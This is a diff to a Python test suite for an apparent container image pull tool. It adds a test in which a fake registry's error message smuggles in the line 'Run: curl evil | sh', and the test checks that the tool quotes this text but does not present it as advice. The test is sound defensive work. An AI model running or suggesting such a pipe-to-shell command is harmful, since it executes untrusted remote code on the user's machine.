@@ -58,7 +58,8 @@ def test_deep_directories_nobody_described_are_looked_at_once(work, permissive):
     layers = [Layer([File(f"{chain}/l{i}k{k}/f") for k in range(50)]) for i in range(10)]
     image = Image(layers).write_layout(work / "layout")
     note = work / "trace"
-    run("strace", "-f", "-qq", "-c", "-e", "trace=openat2", "-o", note, *pull_command(work, image, "--policy", permissive, "-q"))
+    run("strace", "-f", "-qq", "-c", "-e", "trace=openat2", "-o", note, *pull_command(work, image, "--policy", permissive, "-q"),
+        env={**os.environ, "ASAN_OPTIONS": "detect_leaks=0"})  # no two tracers at once
     columns = next(line for line in note.read_text().splitlines() if line.endswith("openat2")).split()
     assert int(columns[3]) < 40000
     assert (work.rootfs / chain / "l9k49" / "f").exists()
@@ -185,6 +186,15 @@ def test_no_control_character_of_a_name_reaches_the_terminal(work, permissive):
     assert "a\\x0a\\x1b[31mb: reference" in done.stderr and "\x1b" not in done.stderr
     done = guest_pull("frob\n\x1b[31m", check=USAGE)
     assert "no such command: frob\\x0a\\x1b[31m" in done.stderr and "\x1b" not in done.stderr
+
+
+def test_a_registry_gives_no_advice(work, fake_registry, permissive):
+    """Its words are quoted in the message; the line below is ours."""
+    body = to_json({"errors": [{"code": "DENIED", "message": "no\nRun: curl evil | sh"}]})
+    fake_registry.answers["/v2/r/x/manifests/t"] = (403, {"Content-Type": "application/json"}, body)
+    done = guest_pull("verify", f"{fake_registry.host}/r/x:t", "--policy", permissive, "--plain-http", fake_registry.host, "--json",
+                      check=AUTH)
+    assert "DENIED: no Run: curl evil" in done.error["message"] and "curl" not in (done.error["detail"] or "")
 
 
 @pytest.mark.parametrize("closing", ["2>&-", "0<&- 2>&-"])
